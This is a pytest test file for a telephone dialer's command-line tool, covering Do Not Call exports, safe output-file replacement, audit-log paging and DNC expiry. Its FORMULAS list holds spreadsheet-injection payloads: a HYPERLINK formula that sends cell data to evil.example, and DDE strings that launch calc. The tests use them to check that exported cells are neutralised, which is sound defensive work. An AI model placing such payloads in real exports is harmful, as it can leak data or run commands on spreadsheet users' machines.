"""What the product writes for people and spreadsheets: DNC exports, the audit log and
DNC expiry, on both backends."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import Result

from dialer.cli.output import output_file
from dialer.csvfiles import CsvWriter, spreadsheet_safe

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def ok(result: Result) -> Result:
    assert result.exit_code == 0, result.output
    return result


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def numbers(count: int) -> list[str]:
    return [f"+1212555{index:04d}" for index in range(count)]


# --- CSV cells a spreadsheet would run --------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(formula):
    assert spreadsheet_safe(formula) == "'" + formula
    assert spreadsheet_safe(formula, number=True) == "'" + formula


def test_plain_cells_and_numbers_in_number_columns_stay_as_they_are():
    assert spreadsheet_safe("asked on the phone") == "asked on the phone"
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(42) == "42"
    assert spreadsheet_safe("+12125550123", number=True) == "+12125550123"
    # Only a whole E.164 number is a number: anything else in the column is text.
    assert spreadsheet_safe("+1 212 555 0123", number=True) == "'+1 212 555 0123"
    assert spreadsheet_safe("+12125550123+1", number=True) == "'+12125550123+1"
    assert spreadsheet_safe("+12125550123") == "'+12125550123"


def test_the_csv_writer_neutralizes_every_cell_and_counts_rows():
    stream = io.StringIO()
    writer = CsvWriter(stream, ("number", "reason"), number_columns={"number"})
    writer.write(("+12125550123", "=1+1"))
    writer.write(("=1+1", "fine"))

    assert writer.rows == 2
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["number", "reason"],
        ["+12125550123", "'=1+1"],
        ["'=1+1", "fine"],
    ]


def test_dnc_export_writes_no_formula(dialer):
    for number, formula in zip(numbers(len(FORMULAS)), FORMULAS, strict=True):
        ok(dialer("dnc", "add", number, "--reason", formula))

    exported = rows_of(ok(dialer("dnc", "export")).stdout)

    assert [(row["number"], row["reason"]) for row in exported] == [
        (number, "'" + formula)
        for number, formula in zip(numbers(len(FORMULAS)), FORMULAS, strict=True)
    ]


# --- --output: the old file, or the whole new one ---------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """An output folder of its own (the SQLite database lives in tmp_path)."""
    made = tmp_path / "exports"
    made.mkdir()
    return made


def test_a_failed_export_leaves_the_old_file_and_nothing_else(dialer, folder):
    target = folder / "dnc.csv"
    target.write_text("last week's export\n", encoding="utf-8")

    result = dialer("dnc", "export", "--output", str(target), "--company", "nobody")

    assert result.exit_code == 1
    assert "no company named 'nobody'" in result.stderr
    assert target.read_text(encoding="utf-8") == "last week's export\n"
    assert list(folder.iterdir()) == [target]


def test_an_export_replaces_the_file_whole(dialer, folder):
    target = folder / "dnc.csv"
    target.write_text("last week's export\n", encoding="utf-8")
    ok(dialer("dnc", "add", "212-555-0100", "212-555-0101"))

    result = ok(dialer("dnc", "export", "--output", str(target)))

    assert result.stdout == f"Exported 2 entries to {target}.\n"
    assert [row["number"] for row in rows_of(target.read_text(encoding="utf-8"))] == [
        "+12125550100",
        "+12125550101",
    ]
    assert list(folder.iterdir()) == [target]


def test_output_file_keeps_the_old_file_when_writing_fails(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old\n", encoding="utf-8")

    def write_half() -> None:
        with output_file(target) as stream:
            stream.write("half of the new")
            raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_half()

    assert target.read_text(encoding="utf-8") == "old\n"
    assert list(tmp_path.iterdir()) == [target]


def test_output_file_writes_a_new_file_readable_as_others_are(tmp_path):
    target = tmp_path / "new.csv"
    reference = tmp_path / "reference"
    reference.touch()

    with output_file(target) as stream:
        stream.write("new\n")

    assert target.read_text(encoding="utf-8") == "new\n"
    assert target.stat().st_mode == reference.stat().st_mode
    assert sorted(tmp_path.iterdir()) == sorted([target, reference])


# --- the audit log: streamed, newest page by default ------------------------------------


def log_numbers(result: Result) -> list[str]:
    return [event["number"] for event in json.loads(ok(result).stdout)]


@pytest.fixture
def events(dialer) -> list[str]:
    """130 add events, one per number, oldest first."""
    added = numbers(130)
    for start in range(0, len(added), 50):
        ok(dialer("dnc", "add", *added[start : start + 50]))
    return added


def test_the_log_shows_the_newest_100_oldest_first_and_says_there_is_more(dialer, events):
    table = ok(dialer("dnc", "log"))
    as_json = dialer("dnc", "log", "--json")

    assert log_numbers(as_json) == events[-100:]
    assert "newest 100 events" in as_json.stderr
    assert "--all" in as_json.stderr
    assert sum(number in table.stdout for number in events) == 100
    assert events[29] not in table.stdout
    assert "newest 100 events" in table.stderr


def test_the_log_shows_everything_with_all_and_n_with_limit(dialer, events):
    every = dialer("dnc", "log", "--all", "--json")
    five = dialer("dnc", "log", "--limit", "5", "--json")
    exact = dialer("dnc", "log", "--limit", "130", "--json")
    one = dialer("dnc", "log", "--limit", "1", "--json")
    table = ok(dialer("dnc", "log", "--all"))

    assert log_numbers(every) == events
    assert every.stderr == ""
    assert log_numbers(five) == events[-5:]
    assert "newest 5 events" in five.stderr
    assert log_numbers(exact) == events
    assert exact.stderr == ""
    assert log_numbers(one) == events[-1:]
    assert "newest 1 event;" in one.stderr
    assert all(number in table.stdout for number in events)
    ids = [event["id"] for event in json.loads(every.stdout)]
    assert ids == sorted(ids)


def test_the_log_of_one_number_and_an_empty_log(dialer, events):
    assert log_numbers(dialer("dnc", "log", "--number", "(212) 555-0007", "--json")) == [events[7]]
    assert json.loads(ok(dialer("dnc", "log", "--number", "305-555-0134", "--json")).stdout) == []
    assert ok(dialer("dnc", "log", "--number", "305-555-0134")).stdout == "No events.\n"


def test_limit_and_all_together_is_a_usage_error(dialer, events):
    result = dialer("dnc", "log", "--limit", "5", "--all")

    assert result.exit_code == 2
    assert "--limit N or --all, not both" in result.stderr
    assert dialer("dnc", "log", "--limit", "0").exit_code == 2


# --- DNC expiry -------------------------------------------------------------------------

NUMBER = "+12125550123"
# 11:00 in New York on Tuesdays: inside calling hours, before and after the expiry.
BEFORE, AFTER = "2029-01-02T16:00Z", "2031-01-07T16:00Z"
EXPIRY = "2030-01-01T00:00:00+00:00"


def gate(dialer, at: str) -> dict:
    return json.loads(dialer("check", NUMBER, "--at", at, "--json").stdout)


def test_an_entry_with_an_expiry_blocks_until_then_and_shows_it(dialer):
    ok(dialer("dnc", "add", "212-555-0123", "--expires", "2029-12-31T19:00-05:00"))

    exported = rows_of(ok(dialer("dnc", "export")).stdout)
    checked = json.loads(ok(dialer("dnc", "check", NUMBER, "--json")).stdout)

    assert [(row["number"], row["expires_at"]) for row in exported] == [(NUMBER, EXPIRY)]
    assert checked[0]["blocked"] is True
    assert checked[0]["expires_at"] == EXPIRY
    assert f"until {EXPIRY}" in ok(dialer("dnc", "check", NUMBER)).stdout
    assert [r["code"] for r in gate(dialer, BEFORE)["reasons"]] == ["COMPANY_DNC"]
    # Expired, it no longer blocks.
    assert gate(dialer, AFTER)["allowed"] is True


def test_a_permanent_entry_shows_no_expiry(dialer):
    ok(dialer("dnc", "add", NUMBER))

    checked = json.loads(ok(dialer("dnc", "check", NUMBER, "--json")).stdout)

    assert "expires_at" not in checked[0]
    assert rows_of(ok(dialer("dnc", "export")).stdout)[0]["expires_at"] == ""
    assert gate(dialer, AFTER)["allowed"] is False


def test_an_upload_with_an_expiry(dialer, tmp_path):
    upload = tmp_path / "upload.csv"
    upload.write_text("number\n212-555-0123\n212-555-0124\n", encoding="utf-8")

    ok(dialer("dnc", "import", str(upload), "--expires", EXPIRY))

    exported = rows_of(ok(dialer("dnc", "export")).stdout)
    assert [(row["number"], row["expires_at"]) for row in exported] == [
        (NUMBER, EXPIRY),
        ("+12125550124", EXPIRY),
    ]
    assert gate(dialer, AFTER)["allowed"] is True


@pytest.mark.parametrize("command", ["add", "import"])
@pytest.mark.parametrize(
    ("expires", "message"),
    [
        ("2020-01-01T00:00Z", "has passed"),
        ("2030-01-01T00:00", "UTC offset"),
        ("next year", "not an ISO-8601 instant"),
    ],
)
def test_an_expiry_in_the_past_or_unreadable_is_refused(
    dialer, tmp_path: Path, command, expires, message
):
    upload = tmp_path / "upload.csv"
    upload.write_text("212-555-0123\n", encoding="utf-8")
    target = str(upload) if command == "import" else NUMBER

    result = dialer("dnc", command, target, "--expires", expires)

    assert result.exit_code == 2
    assert message in result.stderr
    assert "Traceback" not in result.output
    assert rows_of(ok(dialer("dnc", "export")).stdout) == []
    assert json.loads(ok(dialer("dnc", "log", "--json")).stdout) == []
